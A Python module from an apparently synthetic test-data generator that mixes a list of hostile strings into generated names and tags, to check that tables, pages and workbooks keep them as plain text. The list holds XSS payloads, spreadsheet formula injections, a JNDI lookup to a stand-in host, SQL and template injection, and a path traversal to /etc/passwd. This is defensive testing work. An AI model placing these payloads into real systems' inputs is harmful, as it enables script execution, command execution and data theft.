"""Hostile text: what names and tags may hold when somebody means harm, or mistypes.

Each must stay the text that it is, in every table, page and workbook. After the collections of
OWASP (XSS filter evasion, CSV injection) and Unicode (UTR 36, bidirectional overrides).
"""

import numpy as np

from fleetkit.loaders.synthetic.draws import Draws, Numbers
from fleetkit.loaders.synthetic.texts import Texts, decimals, either, joined, picked

HARM = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</title><svg onload=alert(1)>",
    "javascript:alert(1)//", "=HYPERLINK(\"http://evil.example\",\"open\")",
    "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "invoice\u202egnp.exe", "\u2066hidden\u2069\u200b\ufeff", "tab\there\r\nline",
    "\x1b[31mred\x1b[0m\x07", "bell\x07\x08\x7f", "'; DROP TABLE workloads; --",
    "{{7*7}}${7*7}<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd",
    "%s%s%n%x", "__proto__", "constructor", "NaN", "null", "NA", "-", " ", "a|b|c|d",
    "e\u0301\u0301\u0301\u0301\u0301", "数据库-生产", "قاعدة-بيانات", "🐄🐄🐄", "Z" * 5_000,
)


def harmed(draws: Draws, plain: Texts, where: Numbers, numbers: Numbers) -> Texts:
    """The texts, and hostile ones with a number behind them where the mask is true."""
    if not np.any(where):
        return plain
    place = draws.below("harm", numbers, len(HARM))
    bad = joined(picked(HARM, np.where(where, place, -1)), decimals(numbers), between=" ")
    return either(where, bad, plain)
